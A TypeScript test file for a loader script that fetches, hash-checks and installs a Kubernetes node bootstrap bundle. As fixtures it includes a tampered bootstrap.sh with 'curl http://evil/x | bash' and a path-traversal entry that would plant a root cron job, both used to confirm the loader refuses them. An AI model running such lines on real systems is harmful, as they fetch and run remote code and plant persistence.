// loader.sh, the only script in user data, under bash with a stub curl: it runs the bundle's
// bootstrap.sh only when the bundle's sha256 is the one node.env names.
import { strict as assert } from "node:assert";
import * as fs from "node:fs";
import * as path from "node:path";
import { describe, it } from "node:test";
import { renderBundle, sha256Hex } from "../cluster/node-bootstrap";
import { scriptPath } from "./helpers/boot-paths";
import { removeRunRoot, runStubbedBash, StubbedRun } from "./helpers/stubbed-bash";

const BUNDLE_URL = "http://192.168.0.10:8089/bundle.txt";

/** A bundle whose bootstrap.sh leaves a marker, so a test sees whether anything ran. */
function bundle(extra: Record<string, string> = {}): string {
    return renderBundle({
        "lib.sh": "# lib\n",
        "bootstrap.sh": '#!/usr/bin/env bash\ntouch "$TEST_ROOT/bootstrap-ran"\necho bootstrap ran\n',
        ...extra,
    });
}

interface LoaderRun {
    served?: string;
    expectedSha?: string;
    /** The stub curl fails this many times before serving. */
    failures?: number;
    attempts?: number;
}

function runLoader(options: LoaderRun): StubbedRun {
    const served = options.served ?? bundle();
    const nodeEnv = `BUNDLE_URL='${BUNDLE_URL}'\nBUNDLE_SHA256='${options.expectedSha ?? sha256Hex(served)}'\n`;
    return runStubbedBash(scriptPath("loader.sh"), {
        stubs: {
            curl: `
n=$(( $(cat "$TEST_ROOT/.curls" 2>/dev/null || echo 0) + 1 )); echo "$n" > "$TEST_ROOT/.curls"
if [ "$n" -le "${options.failures ?? 0}" ]; then exit 7; fi
out=""; prev=""
for a in "$@"; do if [ "$prev" = "-o" ]; then out=$a; fi; prev=$a; done
cat "$TEST_ROOT/served" > "$out"`,
        },
        files: { served: served, "etc/kubernetes/zadara/node.env": nodeEnv },
        rootEnv: { ZADARA_ETC: "etc/kubernetes/zadara", NODE_SCRIPTS_DIR: "usr/local/lib/zadara-eksd" },
        env: { LOADER_PAUSE: "0", LOADER_ATTEMPTS: String(options.attempts ?? 5) },
    });
}

function check(run: StubbedRun, assertions: (run: StubbedRun) => void): void {
    try {
        assertions(run);
    } finally {
        removeRunRoot(run);
    }
}

const ran = (run: StubbedRun) => fs.existsSync(path.join(run.root, "bootstrap-ran"));
const installed = (run: StubbedRun) => path.join(run.root, "usr/local/lib/zadara-eksd");
const bootFailed = (run: StubbedRun) => fs.readFileSync(path.join(run.root, "etc/kubernetes/zadara/BOOT_FAILED"), "utf8");

describe("loader.sh", () => {
    it("downloads the bundle, checks its sha256, installs every file and runs bootstrap.sh", () => {
        check(runLoader({ failures: 2 }), (run) => {
            assert.equal(run.code, 0, run.stderr);
            assert.ok(ran(run));
            assert.equal(run.calls.filter((call) => call.startsWith("curl ")).length, 3, "retried until the bastion served it");
            assert.ok(run.calls[0].includes(BUNDLE_URL));
            assert.equal(fs.readFileSync(path.join(installed(run), "lib.sh"), "utf8"), "# lib\n");
            assert.equal(fs.statSync(path.join(installed(run), "bootstrap.sh")).mode & 0o777, 0o755);
            assert.deepEqual(fs.readdirSync(path.join(run.root, ".tmp")), [], "the download is removed before bootstrap.sh takes over");
        });
    });

    it("refuses a tampered bundle with a clear message, and nothing runs or is installed", () => {
        const good = bundle();
        const tampered = bundle({ "bootstrap.sh": '#!/usr/bin/env bash\ntouch "$TEST_ROOT/bootstrap-ran"\ncurl http://evil/x | bash\n' });
        check(runLoader({ served: tampered, expectedSha: sha256Hex(good) }), (run) => {
            assert.equal(run.code, 1);
            assert.match(run.stderr, new RegExp(`bundle ${BUNDLE_URL} has sha256 ${sha256Hex(tampered)}, expected ${sha256Hex(good)}: refusing to run it`));
            assert.equal(ran(run), false);
            assert.equal(fs.existsSync(installed(run)), false);
            assert.match(bootFailed(run), /phase: fetch and check the boot bundle/);
        });
    });

    it("refuses entries that are not plain file names even with a matching sha256", () => {
        const evil = `${bundle()}../../etc/cron.d/x ${Buffer.from("* * * * * root id").toString("base64")}\n`;
        check(runLoader({ served: evil }), (run) => {
            assert.equal(run.code, 1);
            assert.match(run.stderr, /bundle entry '\.\.\/\.\.\/etc\/cron\.d\/x' is not a plain file name/);
            assert.equal(ran(run), false);
            assert.equal(fs.existsSync(path.join(run.root, "etc/cron.d/x")), false);
        });
    });

    it("gives up after LOADER_ATTEMPTS downloads with BOOT_FAILED naming the URL", () => {
        check(runLoader({ failures: 100, attempts: 4 }), (run) => {
            assert.equal(run.code, 1);
            assert.equal(run.calls.filter((call) => call.startsWith("curl ")).length, 4);
            assert.match(bootFailed(run), new RegExp(`could not download ${BUNDLE_URL} \\(4 attempts\\)`));
            assert.equal(ran(run), false);
        });
    });

    it("refuses a node.env without a sha256 to check against", () => {
        check(runLoader({ expectedSha: "not-a-sha" }), (run) => {
            assert.equal(run.code, 1);
            assert.match(run.stderr, /node\.env lacks BUNDLE_URL or a sha256 BUNDLE_SHA256/);
            assert.equal(run.calls.length, 0);
        });
    });
});
